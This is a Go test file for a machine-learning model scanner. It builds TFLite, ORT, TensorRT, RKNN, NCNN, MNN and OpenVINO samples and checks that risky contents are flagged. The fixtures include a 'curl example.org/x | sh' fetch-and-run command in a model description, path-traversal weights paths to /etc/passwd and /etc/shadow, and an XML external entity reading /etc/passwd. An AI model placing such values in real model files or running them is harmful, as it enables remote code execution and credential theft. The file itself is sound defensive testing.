package edge

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"maps"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/lodemark/lodemark/internal/model/flatbuffers"
	"github.com/lodemark/lodemark/internal/model/inspect"
	"github.com/lodemark/lodemark/internal/model/protobuf"
)

func tfliteWith(operator string, fields flatbuffers.Object) []byte {
	o := tfliteObject(operator)
	maps.Copy(o, fields)
	return flatbuffers.Build(o, "TFL3")
}

// flexSample is a model with one node of TensorFlow's, whose options are a FlexBuffer of its operator and its NodeDef.
func flexSample(op, attribute, text string) []byte {
	value := protobuf.AppendBytes(protobuf.AppendBytes([]byte(nil), 1, attribute), 2, protobuf.AppendBytes([]byte(nil), 2, text))
	def := string(protobuf.AppendBytes(protobuf.AppendBytes(protobuf.AppendBytes([]byte(nil), 1, "n"), 2, op), 5, value))
	var b []byte
	place := func(s string) int {
		b = append(b, byte(len(s)))
		at := len(b)
		b = append(append(b, s...), 0)
		return at
	}
	first, second := place(op), place(def)
	b = append(b, 2)
	vector := len(b)
	b = append(b, byte(vector-first), byte(vector+1-second), flexText<<2, flexText<<2)
	b = append(b, byte(len(b)-vector), flexVector<<2, 1)
	o := tfliteObject("Flex" + op)
	graph := o[2].([]flatbuffers.Object)[0]
	graph[3] = []flatbuffers.Object{{0: uint32(0), 1: []int32{0}, 2: []int32{1}, 5: b}}
	return flatbuffers.Build(o, "TFL3")
}

// labels is a zip of one file, with offsets from its own beginning.
func labels(t *testing.T, name, text string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.Create(name)
	if err == nil {
		_, err = f.Write([]byte(text))
	}
	if err != nil || w.Close() != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestTFLite(t *testing.T) {
	builtin := []flatbuffers.Object{{0: uint8(0), 2: int32(1)}}
	good := flatbuffers.Object{1: builtin}
	tensor := func(fields flatbuffers.Object) flatbuffers.Object {
		g := flatbuffers.Object{0: []flatbuffers.Object{fields, {0: []int32{1}}}, 1: []int32{0}, 2: []int32{1}, 3: []flatbuffers.Object{{0: uint32(0), 1: []int32{0}, 2: []int32{1}}}}
		return flatbuffers.Object{1: builtin, 2: []flatbuffers.Object{g}}
	}
	whole := tfliteWith("", good)
	cut := append(bytes.Clone(whole), labels(t, "labels.txt", "cat\n")...)
	copy(cut[len(whole):], "PK\x03\x05")
	check(t, "tflite", []sample{
		{"a built in operator", "m.tflite", whole, inspect.Clean, ""},
		{"by another name", "m.bin", whole, inspect.Clean, ""},
		{"an operator that is shipped", "m.tflite", tfliteSample("TFLite_Detection_PostProcess"), inspect.Clean, ""},
		{"an operator of the text library", "m.tflite", tfliteSample("tftext:WhitespaceTokenizer"), inspect.Clean, ""},
		{"an operator of nobody", "m.tflite", tfliteSample("EvilOp"), inspect.Dangerous, `"EvilOp"`},
		{"TensorFlow's arithmetic", "m.tflite", tfliteSample("FlexErf"), inspect.Clean, ""},
		{"TensorFlow writes a file", "m.tflite", tfliteSample("FlexWriteFile"), inspect.Malicious, `"WriteFile"`},
		{"TensorFlow reads a file", "m.tflite", tfliteSample("FlexReadFile"), inspect.Dangerous, `"ReadFile"`},
		{"TensorFlow runs Python", "m.tflite", tfliteSample("FlexPyFunc"), inspect.Dangerous, `"PyFunc"`},
		{"an operator of nobody's that looks like TensorFlow's", "m.tflite", tfliteSample("FlexEvil"), inspect.Dangerous, `"Evil"`},
		{"TensorFlow prints, nobody knows where", "m.tflite", tfliteSample("FlexPrintV2"), inspect.Malicious, `"PrintV2"`},
		{"TensorFlow prints to the terminal", "m.tflite", flexSample("PrintV2", "output_stream", "stderr"), inspect.Clean, ""},
		{"TensorFlow prints into a file", "m.tflite", flexSample("PrintV2", "output_stream", "file:///tmp/canary"), inspect.Malicious, "/tmp/canary"},
		{"TensorFlow's debugger", "m.tflite", flexSample("DebugIdentityV2", "debug_urls", "grpc://example.org:1"), inspect.Dangerous, "example.org"},
		{"TensorFlow restores", "m.tflite", flexSample("RestoreV2", "dtypes", ""), inspect.Dangerous, `"RestoreV2"`},
		{"labels behind it", "m.tflite", append(bytes.Clone(whole), labels(t, "labels.txt", "cat\n")...), inspect.Clean, ""},
		{"labels behind it that are cut", "m.tflite", cut, inspect.NotRead, ""},
		{"weights beside it", "m.tflite", tfliteWith("", flatbuffers.Object{1: builtin, 8: []flatbuffers.Object{{0: "w.bin"}}}), inspect.Clean, ""},
		{"weights elsewhere", "m.tflite", tfliteWith("", flatbuffers.Object{1: builtin, 8: []flatbuffers.Object{{0: "../../etc/passwd"}}}), inspect.Dangerous, "outside of the model's folder"},
		{"weights of another machine", "m.tflite", tfliteWith("", flatbuffers.Object{1: builtin, 8: []flatbuffers.Object{{0: "https://example.org/w"}}}), inspect.Dangerous, "fetched"},
		{"a command in its description", "m.tflite", tfliteWith("", flatbuffers.Object{1: builtin, 3: "curl example.org/x | sh"}), inspect.Dangerous, "command"},
		{"cut in the middle", "m.tflite", whole[:len(whole)/2], inspect.NotRead, "out"},
		{"another version", "m.tflite", tfliteWith("", flatbuffers.Object{0: uint32(77), 1: builtin}), inspect.NotRead, "version 77"},
		{"no graph", "m.tflite", tfliteWith("", flatbuffers.Object{1: builtin, 2: []flatbuffers.Object{}}), inspect.NotRead, "no graph"},
		{"a node of no operator", "m.tflite", tfliteWith("", flatbuffers.Object{1: []flatbuffers.Object{}}), inspect.NotRead, "operator 0 of 0"},
		{"a tensor of no buffer", "m.tflite", tfliteWith("", tensor(flatbuffers.Object{0: []int32{4}, 2: uint32(9)})), inspect.NotRead, "buffer 9"},
		{"a tensor of no type", "m.tflite", tfliteWith("", tensor(flatbuffers.Object{0: []int32{4}, 1: uint8(99)})), inspect.NotRead, "type 99"},
		{"a tensor larger than its buffer", "m.tflite", tfliteWith("", func() flatbuffers.Object {
			o := tensor(flatbuffers.Object{0: []int32{1000}, 2: uint32(1)})
			o[4] = []flatbuffers.Object{{}, {0: []byte("small")}}
			return o
		}()), inspect.NotRead, "4000 bytes lies in a buffer of 5"},
		{"a constant behind the end", "m.tflite", tfliteWith("", flatbuffers.Object{1: builtin, 4: []flatbuffers.Object{{1: uint64(1 << 40), 2: uint64(5)}}}), inspect.NotRead, "outside of the file"},
		{"metadata of no buffer", "m.tflite", tfliteWith("", flatbuffers.Object{1: builtin, 6: []flatbuffers.Object{{0: "m", 1: uint32(7)}}}), inspect.NotRead, "buffer 7"},
	})
}

func TestORT(t *testing.T) {
	model := func(domain, op string) []byte {
		node := flatbuffers.Object{0: "n", 2: domain, 5: op, 8: []string{"a"}, 9: []string{"b"}}
		return flatbuffers.Build(flatbuffers.Object{0: "1.17.0", 1: flatbuffers.Object{2: "tests", 7: flatbuffers.Object{2: []flatbuffers.Object{node}}}}, "ORTM")
	}
	whole := model("", "Conv")
	check(t, "ort", []sample{
		{"ONNX's own", "m.ort", whole, inspect.Clean, ""},
		{"Microsoft's", "m.ort", model("com.microsoft", "FusedMatMul"), inspect.Clean, ""},
		{"of another domain", "m.ort", model("evil.ops", "Run"), inspect.Dangerous, `"evil.ops.Run"`},
		{"Python", "m.ort", model("com.microsoft", "PythonOp"), inspect.Dangerous, "runs code"},
		{"cut", "m.ort", whole[:len(whole)-20], inspect.NotRead, ""},
		{"no operator", "m.ort", model("", ""), inspect.NotRead, "names no operator"},
	})
}

func TestEngines(t *testing.T) {
	plan := func(version uint32, rest string) []byte {
		b := binary.LittleEndian.AppendUint32([]byte("ptrt"), version)
		b = append(b, 0, 0, 0, 0)
		b = binary.LittleEndian.AppendUint64(b, uint64(len(rest)))
		return append(append(b, 0, 0, 0, 0), rest...)
	}
	described := func(json string, plan []byte) []byte {
		return append(append(binary.LittleEndian.AppendUint32(nil, uint32(len(json))), json...), plan...)
	}
	check(t, "tensorrt", []sample{
		{"an engine", "m.engine", plan(0x60, "opaque"), inspect.Unknown, "cannot be looked at"},
		{"with a description", "m.plan", described(`{"author":"x","stride":32}`, plan(0x60, "opaque")), inspect.Unknown, "cannot be looked at"},
		{"with a plugin", "m.trt", plan(0x60, "opaque /opt/evil/libplugin.so end"), inspect.Dangerous, "libplugin.so"},
		{"with a library", "m.trt", plan(0x60, "opaque \x7fELF\x02\x01"), inspect.Dangerous, "native library"},
		{"a larger one than there is", "m.engine", append(plan(0x60, "x")[:12], 0xff, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0), inspect.NotRead, "claims 65535 bytes"},
		{"cut in its head", "m.engine", plan(0x60, "")[:20], inspect.NotRead, "head"},
	})
	rknn := func(code, json string) []byte {
		b := append([]byte("RKNN\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00"), binary.LittleEndian.AppendUint64(nil, uint64(len(code)))...)
		b = append(b, code...)
		return append(binary.LittleEndian.AppendUint64(b, uint64(len(json))), json...)
	}
	whole := rknn("code", `{"version":"1.4.0","nodes":[{"op":"RKNN_OP_CONV"}]}`)
	check(t, "rknn", []sample{
		{"a model", "m.rknn", whole, inspect.Clean, ""},
		{"a custom operator", "m.rknn", rknn("code", `{"nodes":[{"op":"RKNN_OP_CUSTOM"}]}`), inspect.Dangerous, "CUSTOM"},
		{"a library", "m.rknn", rknn("code", `{"plugin":"/tmp/x.so"}`), inspect.Dangerous, "/tmp/x.so"},
		{"cut", "m.rknn", whole[:len(whole)-4], inspect.NotRead, "claims"},
		{"a lie", "m.rknn", rknn("code", `{"nodes":[`), inspect.NotRead, "ends"},
	})
}

func TestNCNN(t *testing.T) {
	check(t, "ncnn", []sample{
		{"a net", "m.param", []byte("7767517\n2 2\nInput in 0 1 a\nConvolution c 1 1 a b 0=32 1=3 -23310=2,1.0,2.0\n"), inspect.Clean, ""},
		{"fewer layers than claimed", "m.param", []byte("7767517\n3 2\nInput in 0 1 a\nReLU c 1 1 a b\n"), inspect.NotRead, "claims 3 layers"},
		{"cut in a line", "m.param", []byte("7767517\n2 2\nInput in 0 1 a\nReLU c 1"), inspect.NotRead, ""},
		{"Python", "m.param", []byte("7767517\n1 1\nPythonLayer in 0 1 a\n"), inspect.Dangerous, "PythonLayer"},
	})
	op := func(fields flatbuffers.Object) []byte {
		return flatbuffers.Build(flatbuffers.Object{3: []flatbuffers.Object{fields}, 4: []string{"out"}}, "\x00\x00\x00\x00")
	}
	check(t, "mnn", []sample{
		{"a net", "m.mnn", op(flatbuffers.Object{3: "c", 5: int32(11)}), inspect.Clean, ""},
		{"a plugin", "m.mnn", op(flatbuffers.Object{3: "c", 5: int32(mnnPlugin)}), inspect.Dangerous, "bring"},
		{"weights elsewhere", "m.mnn", op(flatbuffers.Object{3: "c", 5: int32(11), 7: "/etc/shadow"}), inspect.Dangerous, "/etc/shadow"},
		{"cut", "m.mnn", op(flatbuffers.Object{3: "c", 5: int32(11)})[:70], inspect.NotRead, ""},
	})
}

// wideText is UTF-16 without a mark.
func wideText(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return b
}

const openvinoText = `<?xml version="1.0"?>
<net name="m" version="11"><layers>
<layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,4" element_type="f32"/><output><port id="0"/></output></layer>
<layer id="1" name="w" type="Const" version="opset1"><data element_type="f32" shape="4, 2" offset="0" size="32"/><output><port id="0"/></output></layer>
<layer id="2" name="mm" type="MatMul" version="opset1"/></layers>
<edges><edge from-layer="0" from-port="0" to-layer="2" to-port="0"/></edges><rt_info><MO_version value="2023.0"/></rt_info></net>`

func TestOpenVINO(t *testing.T) {
	net := func(change ...string) []byte { return []byte(strings.NewReplacer(change...).Replace(openvinoText)) }
	check(t, "openvino", []sample{
		{"a graph", "m.xml", net(), inspect.Clean, ""},
		{"in UTF-16 with an entity", "m.xml", wideText(strings.Replace(string(net()), "<net ", `<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net `, 1)), inspect.Dangerous, "etc/passwd"},
		{"in UTF-16", "m.xml", wideText(string(net())), inspect.Clean, ""},
		{"a tokenizer", "m.xml", net(`type="MatMul" version="opset1"`, `type="BPETokenizer" version="extension"`), inspect.Clean, ""},
		{"an operator of its own", "m.xml", net(`type="MatMul" version="opset1"`, `type="Evil" version="my_extension"`), inspect.Dangerous, `"Evil"`},
		{"Python", "m.xml", net(`type="MatMul" version="opset1"`, `type="Python"`), inspect.Dangerous, "outside of the model"},
		{"a library", "m.xml", net(`type="MatMul"`, `type="MatMul" library="evil.so"`), inspect.Dangerous, "evil.so"},
		{"a path", "m.xml", net(`type="MatMul"`, `type="MatMul" path="../../../etc/passwd"`), inspect.Dangerous, "etc/passwd"},
		{"an entity", "m.xml", net("<net ", `<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net `), inspect.Dangerous, "entity"},
		{"kernels", "m.xml", []byte(`<CustomLayers><CustomLayer name="R" type="SimpleGPU"><Kernel entry="k"><Source filename="k.cl"/></Kernel></CustomLayer></CustomLayers>`), inspect.Dangerous, "kernels"},
		{"an edge to nowhere", "m.xml", net(`to-layer="2"`, `to-layer="9"`), inspect.NotRead, "which is none"},
		{"a constant too small", "m.xml", net(`size="32"`, `size="8"`), inspect.NotRead, "32 bytes is said to have 8"},
		{"a constant nowhere", "m.xml", net(`offset="0"`, `offset="-9"`), inspect.NotRead, "lies nowhere"},
		{"cut", "m.xml", net()[:len(openvinoText)-30], inspect.NotRead, ""},
	})
}
